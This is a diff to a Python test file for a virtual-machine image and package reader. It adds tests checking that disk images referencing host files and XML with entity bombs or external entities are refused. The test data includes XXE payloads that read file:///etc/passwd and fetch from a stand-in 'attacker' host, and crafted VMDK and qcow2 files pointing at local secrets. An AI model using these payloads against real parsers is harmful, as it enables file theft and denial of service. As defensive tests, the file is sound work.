@@ -21,11 +21,15 @@ from console.formats.blocks import Bytes, ForwardBytes
 from console.formats.broken import BadFile, Where
 from console.formats.compressed import compression_of, decompress
 from console.formats.detect import detect
+from console.formats.domain import read_domain
 from console.formats.export import write_ova, write_ovf_folder
 from console.formats.images import inspect, vhd_checksum
 from console.formats.opening import open_package, open_stream
+from console.formats.ovf import read_ovf
 from console.formats.vmdk import vmdk_chunks
 from console.formats.vmdk_write import write_vmdk
+from console.formats.xmlrpc import loads
+from console.formats.xva import read_ova_xml
 from console.model.errors import ConsoleError
 from tests.fixtures.packages import MIB, bytes_of, chunks_of, content, gathered, plan, read, synthetic_xva, vm
 
@@ -314,6 +318,55 @@ def test_other_formats_headers(tmp_path: Path) -> None:
     for form, name in (("vhdx", "vhdx"), ("vdi", "vdi"), ("qcow2", "qcow2"), ("qcow", "qcow"), ("vmdk", "vmdk"), ("vpc", "vpc")):
         found = inspect(qemu_image(tmp_path / f"x.{form}", "-f", form, *(["-o", "force_size=on"] if form == "vpc" else [])))
         assert (found.format, found.capacity_bytes, found.refusal()) == (name, MIB, None)
+
+
+@pytest.mark.parametrize("place", ["ova", "gzip", "folder", "xz"])
+@pytest.mark.parametrize("form", ["qcow2", "vmdk", "flat"])
+def test_names_inside_of_what_is_inside(tmp_path: Path, form: str, place: str) -> None:
+    """An image in a package or packed that names a file of this computer: refused as if it lay there by itself, and never opened."""
+    secret, evil = tmp_path / "secret.txt", tmp_path / "web-disk1.img"
+    secret.write_bytes(b"root:x:0:0\n" * 100_000)
+    if form == "flat":
+        evil.write_text(f'# Disk DescriptorFile\nversion=1\nCID=1\nparentCID=ffffffff\ncreateType="monolithicFlat"\nRW 2048 FLAT "{secret}" 0\n')
+    else:
+        base = tmp_path / "base"
+        subprocess.run(["qemu-img", "create", "-q", "-f", form, base, "1M"], check=True)
+        qemu_image(evil, "-f", form, "-b", base, "-F", form)
+    data, machine = evil.read_bytes(), vm([MIB])
+    package = tmp_path / "package"
+    package.mkdir()
+    if place in ("gzip", "xz"):
+        target = package / "disk.gz"
+        target.write_bytes((gzip if place == "gzip" else lzma).compress(data))
+    else:
+        files = {"web-disk1.img": data}
+        write_ovf_folder(plan(machine, [bytes(MIB)], disk_format="raw", manifest=""), lambda name: (package / name).open("x+b"))
+        target = package / "web.ovf"
+        text = re.sub('ovf:size="[0-9]+"', f'ovf:size="{len(data)}"', target.read_text())
+        target.write_text(text)
+        for name, each in files.items():
+            (package / name).write_bytes(each)
+        if place == "ova":
+            target = tmp_path / "web.ova"
+            target.write_bytes(archive((info("web.ovf"), text.encode()), *((info(name), each) for name, each in files.items())))
+
+    def act() -> None:
+        with open_package(target) as opened:
+            read(opened.open(opened.description.disks[0]))
+
+    text = refused(act)
+    assert "never opened" in text or "it is not there" in text or "can be used by itself" in text, text
+
+
+@pytest.mark.parametrize("read_it", [read_ovf, read_ova_xml, read_domain, loads])
+def test_entities_of_every_description(read_it: Callable[[bytes, Where], object]) -> None:
+    """Bombs and files of this computer in any XML that is read: no document type is accepted."""
+    for begin in (
+        b'<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>', b'<!DOCTYPE a SYSTEM "file:///etc/passwd">',
+        b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker/x"> %x;]>',
+    ):  # fmt: skip
+        for body in (b"<value>&c;</value>", b"<domain><name>&c;</name></domain>", b"<Envelope/>"):
+            assert "document type" in refused(lambda begin=begin, body=body: read_it(begin + body, Where("x")))  # type: ignore[misc]
 
 
 # --------------------------------------------------------------------------- VMDK and VHD that lie
